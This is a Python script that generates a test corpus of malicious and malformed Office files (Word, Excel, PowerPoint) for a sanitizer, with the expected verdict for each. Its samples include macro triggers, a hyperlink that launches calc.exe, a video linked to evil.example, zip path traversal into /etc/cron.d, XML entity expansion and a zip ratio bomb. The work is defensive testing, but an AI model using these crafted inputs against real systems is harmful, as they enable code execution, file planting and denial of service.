        [('rId1', 'worksheet', 'worksheets/sheet1.xml'), ('rId2', 'connections', 'connections.xml')],
        [sheet1, ('xl/connections.xml', conn)],
        [('xl/worksheets/sheet1.xml', WS_CT), ('xl/connections.xml', CT + 'spreadsheetml.connections+xml')]),
        'sanitized', [('ooxml.external_link', 'removed')])
    drawing = (DECL + '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
               'xmlns:a="%s"><xdr:oneCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff>'
               '<xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="10" cy="10"/>'
               '<xdr:sp macro="[0]!Auto_Open" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="b"/><xdr:cNvSpPr/>'
               '</xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>' % NS_A)
    vml = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
           'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t201">'
           '<x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0, 2, 0, 2, 0</x:Anchor>'
           '<x:FmlaMacro>[0]!Macro1</x:FmlaMacro></x:ClientData></v:shape></xml>')
    S['shape-macro.xlsx'] = (xlsx(
        wb([('Sheet1', 'rId1')]), [('rId1', 'worksheet', 'worksheets/sheet1.xml')],
        [('xl/worksheets/sheet1.xml', ws('<row r="1"><c r="A1"><v>1</v></c></row>',
                                         '<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/>')),
         ('xl/worksheets/_rels/sheet1.xml.rels', rels([
             ('rId1', 'drawing', '../drawings/drawing1.xml'),
             ('rId2', 'vmlDrawing', '../drawings/vmlDrawing1.vml')])),
         ('xl/drawings/drawing1.xml', drawing), ('xl/drawings/vmlDrawing1.vml', vml)],
        [('xl/worksheets/sheet1.xml', WS_CT), ('xl/drawings/drawing1.xml', CT + 'drawing+xml')],
        defaults=[('vml', CT + 'vmlDrawing')]),
        'sanitized', [('ooxml.vba', 'removed')])
    S['vba.xlsm'] = (xlsx(
        wb([('Sheet1', 'rId1')]),
        [('rId1', 'worksheet', 'worksheets/sheet1.xml'), ('rId2', RT_MS + 'vbaProject', 'vbaProject.bin')],
        [sheet1, ('xl/vbaProject.bin', FAKE_VBA)],
        [('xl/worksheets/sheet1.xml', WS_CT)], main_ct=CT_XLSM,
        defaults=[('bin', 'application/vnd.ms-office.vbaProject')]),
        'sanitized', [('ooxml.vba', 'removed'), ('ooxml.macro_enabled', 'removed')])
    return S


# ---------------------------------------------------------------- PowerPoint

def sld(tree, csld_extra=''):
    return (DECL + '<p:sld xmlns:a="%s" xmlns:r="%s" xmlns:p="%s" xmlns:mc="%s"><p:cSld><p:spTree>'
            '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
            '%s</p:spTree>%s</p:cSld></p:sld>' % (NS_A, NS_R, NS_P, NS_MC, tree, csld_extra))


def text_sp(i, text, click=''):
    return ('<p:sp><p:nvSpPr><p:cNvPr id="%d" name="t%d">%s</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
            '<p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>%s</a:t></a:r></a:p>'
            '</p:txBody></p:sp>' % (i, i, click, text))


def pptx(slide, slide_rels=(), parts=(), cts=(), main_ct=CT_PPTX, defaults=()):
    theme = (DECL + '<a:theme xmlns:a="%s" name="t"><a:themeElements/></a:theme>' % NS_A)
    master = (DECL + '<p:sldMaster xmlns:a="%s" xmlns:r="%s" xmlns:p="%s"><p:cSld><p:spTree>'
              '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
              '</p:spTree></p:cSld><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/>'
              '</p:sldLayoutIdLst></p:sldMaster>' % (NS_A, NS_R, NS_P))
    layout = (DECL + '<p:sldLayout xmlns:a="%s" xmlns:r="%s" xmlns:p="%s"><p:cSld><p:spTree>'
              '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
              '</p:spTree></p:cSld></p:sldLayout>' % (NS_A, NS_R, NS_P))
    pres = (DECL + '<p:presentation xmlns:a="%s" xmlns:r="%s" xmlns:p="%s">'
            '<p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>'
            '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'
            '</p:presentation>' % (NS_A, NS_R, NS_P))
    P = CT + 'presentationml.'
    return [
        ('[Content_Types].xml', ctypes([
            ('ppt/presentation.xml', main_ct),
            ('ppt/slides/slide1.xml', P + 'slide+xml'),
            ('ppt/slideLayouts/slideLayout1.xml', P + 'slideLayout+xml'),
            ('ppt/slideMasters/slideMaster1.xml', P + 'slideMaster+xml'),
            ('ppt/theme/theme1.xml', CT + 'theme+xml')] + list(cts), defaults)),
        ('_rels/.rels', rels([('rId1', 'officeDocument', 'ppt/presentation.xml')])),
        ('ppt/presentation.xml', pres),
        ('ppt/_rels/presentation.xml.rels', rels([
            ('rId1', 'slideMaster', 'slideMasters/slideMaster1.xml'),
            ('rId2', 'slide', 'slides/slide1.xml'),
            ('rId3', 'theme', 'theme/theme1.xml')])),
        ('ppt/slides/slide1.xml', slide),
        ('ppt/slides/_rels/slide1.xml.rels', rels([
            ('rId1', 'slideLayout', '../slideLayouts/slideLayout1.xml')] + list(slide_rels))),
        ('ppt/slideLayouts/slideLayout1.xml', layout),
        ('ppt/slideLayouts/_rels/slideLayout1.xml.rels', rels([
            ('rId1', 'slideMaster', '../slideMasters/slideMaster1.xml')])),
        ('ppt/slideMasters/slideMaster1.xml', master),
        ('ppt/slideMasters/_rels/slideMaster1.xml.rels', rels([
            ('rId1', 'slideLayout', '../slideLayouts/slideLayout1.xml'),
            ('rId2', 'theme', '../theme/theme1.xml')])),
        ('ppt/theme/theme1.xml', theme),
    ] + list(parts)


def ppt_samples():
    S = {}
    S['clean.pptx'] = (pptx(sld(text_sp(2, 'Hello'))), 'clean', [])
    ctrl = ('<p:controls><mc:AlternateContent><mc:Choice Requires="v"><p:control spid="_x0000_s1025" '
            'name="CommandButton1" r:id="rId2" imgW="100" imgH="100"/></mc:Choice><mc:Fallback>'
            '<p:control name="CommandButton1" r:id="rId2" imgW="100" imgH="100"/></mc:Fallback>'
            '</mc:AlternateContent></p:controls>')
    S['activex.pptm'] = (pptx(
        sld(text_sp(2, 'ActiveX'), ctrl),
        [('rId2', 'control', '../activeX/activeX1.xml')],
        [('ppt/activeX/activeX1.xml', DECL + '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
          'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>' % NS_R),
         ('ppt/activeX/_rels/activeX1.xml.rels', rels([('rId1', RT_MS + 'activeXControlBinary', 'activeX1.bin')])),
         ('ppt/activeX/activeX1.bin', FAKE_OLE),
         ('ppt/vbaProject.bin', FAKE_VBA)],
        [('ppt/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml')],
        main_ct=CT_PPTM, defaults=[('bin', 'application/vnd.ms-office.activeX')]),
        'sanitized', [('ooxml.activex', 'removed'), ('ooxml.vba', 'removed'),
                      ('ooxml.macro_enabled', 'removed')])
    S['program-action.pptx'] = (pptx(
        sld(text_sp(2, 'click', '<a:hlinkClick r:id="rId2" action="ppaction://program"/>')),
        [('rId2', 'hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    S['macro-action.pptx'] = (pptx(
        sld(text_sp(2, 'hover', '<a:hlinkMouseOver r:id="" action="ppaction://macro?name=AutoOpen"/>'))),
        'sanitized', [('ooxml.vba', 'removed')])
    video = ('<p:pic><p:nvPicPr><p:cNvPr id="3" name="v"><a:hlinkClick r:id="" action="ppaction://media"/>'
             '</p:cNvPr><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rId2"/></p:nvPr></p:nvPicPr>'
             '<p:blipFill><a:blip r:embed="rId3"/></p:blipFill><p:spPr/></p:pic>')
    S['linked-video.pptx'] = (pptx(
        sld(text_sp(2, 'video') + video),
        [('rId2', 'video', 'file://///evil.example/share/v.mp4', 'External'),
         ('rId3', 'image', '../media/image1.png')],
        [('ppt/media/image1.png', PNG)], defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.external_rel', 'removed')])
    frame = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/>'
             '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="100" y="100"/><a:ext cx="500" cy="500"/></p:xfrm>'
             '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
             '<mc:AlternateContent><mc:Choice Requires="v"><p:oleObj spid="_x0000_s1026" name="Packager" '
             'r:id="rId3" imgW="10" imgH="10" progId="Package"><p:embed/></p:oleObj></mc:Choice><mc:Fallback>'
             '<p:oleObj name="Packager" r:id="rId3" imgW="10" imgH="10" progId="Package"><p:embed/><p:pic>'
             '<p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
             '<a:blip r:embed="rId4"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr/></p:pic>'
             '</p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>')
    S['ole-object.pptx'] = (pptx(
        sld(text_sp(2, 'OLE') + frame),
        [('rId3', 'oleObject', '../embeddings/oleObject1.bin'), ('rId4', 'image', '../media/image1.png')],
        [('ppt/embeddings/oleObject1.bin', FAKE_OLE), ('ppt/media/image1.png', PNG)],
        [('ppt/embeddings/oleObject1.bin', CT + 'oleObject')], defaults=[('png', 'image/png')]),
        'sanitized', [('ooxml.ole_object', 'removed')])
    return S


# ---------------------------------------------------------------- broken

def raw_zip(entries):
    """A zip with exactly the given (name, data) entries, stored, no checks
    (zipfile refuses some of the names we need)."""
    out, cd = b'', b''
    for name, data in entries:
        n = name.encode('utf-8')
        crc = zlib.crc32(data)
        hdr = (b'PK\x03\x04' + (20).to_bytes(2, 'little') + b'\0\0' + b'\0\0' + b'\0\0\x21\0'
               + crc.to_bytes(4, 'little') + len(data).to_bytes(4, 'little') * 2
               + len(n).to_bytes(2, 'little') + b'\0\0')
        cd += (b'PK\x01\x02' + (20).to_bytes(2, 'little') * 2 + b'\0\0' + b'\0\0' + b'\0\0\x21\0'
               + crc.to_bytes(4, 'little') + len(data).to_bytes(4, 'little') * 2
               + len(n).to_bytes(2, 'little') + b'\0' * 8 + b'\0\0\0\0'
               + len(out).to_bytes(4, 'little') + n)
        out += hdr + n + data
    eocd = (b'PK\x05\x06' + b'\0' * 4 + len(entries).to_bytes(2, 'little') * 2
            + len(cd).to_bytes(4, 'little') + len(out).to_bytes(4, 'little') + b'\0\0')
    return out + cd + eocd


def encode(parts):
    return [(n, d.encode('utf-8') if isinstance(d, str) else d) for n, d in parts]


def broken_samples(outdir):
    base = encode(docx(wdoc(p(r('x')))))
    S = {}
    S['dup-names.docx'] = (raw_zip(base + [('WORD/document.xml', base[2][1])]),
                           'blocked', [('ooxml.malformed', 'blocked')])
    S['path-traversal.docx'] = (raw_zip(base + [('../../evil.bat', b'calc')]),
                                'blocked', [('ooxml.malformed', 'blocked')])
    S['absolute-name.docx'] = (raw_zip(base + [('/etc/cron.d/x', b'calc')]),
                               'blocked', [('ooxml.malformed', 'blocked')])
    dtd = ('<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
           '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
           '<w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>' % NS_W)
    S['dtd-entities.docx'] = (raw_zip(encode(docx(dtd))), 'blocked', [('ooxml.malformed', 'blocked')])
    deep = wdoc(p(r('x'))).replace('<w:body>', '<w:body>' + '<w:sdt><w:sdtContent>' * 300).replace(
        '<w:sectPr/></w:body>', '</w:sdtContent></w:sdt>' * 300 + '<w:sectPr/></w:body>')
    # OPC parts are UTF-8 or UTF-16; a reader that guesses differently
    # would see other markup than the sanitizer did
    latin = wdoc(p(r('caf\xe9'))).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    S['latin1-encoding.docx'] = (raw_zip(encode(docx(latin.encode('latin-1')))), 'blocked',
                                 [('ooxml.malformed', 'blocked')])
    S['deep-nesting.docx'] = (raw_zip(encode(docx(deep))), 'blocked', [('limit.xml_depth', 'blocked')])
    # a corrupt deflate stream behind an intact central directory
    good = os.path.join(outdir, '.tmp.docx')
    write_zip(good, docx(wdoc(p(r('corrupt me ' * 50)))))
    data = bytearray(open(good, 'rb').read())
    os.unlink(good)
    off = data.find(b'word/document.xml') + len(b'word/document.xml')
    for k in range(off + 10, off + 40):
        data[k] ^= 0x55
    S['corrupt-deflate.docx'] = (bytes(data), 'blocked', [('ooxml.malformed', 'blocked')])
    S['truncated.docx'] = (raw_zip(base)[:-30], 'blocked', [])
    # 40 MB of zeros in one part: ratio far above limits.archive_ratio
    bomb = os.path.join(outdir, '.tmp.docx')
    with zipfile.ZipFile(bomb, 'w') as z:
        for name, d in base:
            zi = zipfile.ZipInfo(name, DT)
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, d)
        zi = zipfile.ZipInfo('word/media/zeros.bin', DT)
        zi.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(zi, b'\0' * (40 * 1024 * 1024), compresslevel=9)
    S['ratio-bomb.docx'] = (open(bomb, 'rb').read(), 'blocked', [('limit.archive_ratio', 'blocked')])
    os.unlink(bomb)
    return S


def write_expect(path, verdict, findings, comment):
    with open(path, 'w') as f:
        f.write('# %s\n' % comment)
        f.write('verdict %s\n' % verdict)
        for code, action in findings:
            f.write('finding %s %s\n' % (code, action))


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, '..', 'files', 'ooxml')
    os.makedirs(outdir, exist_ok=True)
    samples = {}
    samples.update(word_samples())
    samples.update(excel_samples())
    samples.update(ppt_samples())
    for name, (parts, verdict, findings) in samples.items():
        write_zip(os.path.join(outdir, name), parts)
        write_expect(os.path.join(outdir, name + '.expect'), verdict, findings,
                     'generated by tests/corpus/gen/ooxml.py')
    for name, (data, verdict, findings) in broken_samples(outdir).items():
        with open(os.path.join(outdir, name), 'wb') as f:
            f.write(data)
        write_expect(os.path.join(outdir, name + '.expect'), verdict, findings,
                     'generated by tests/corpus/gen/ooxml.py')


if __name__ == '__main__':
    main()
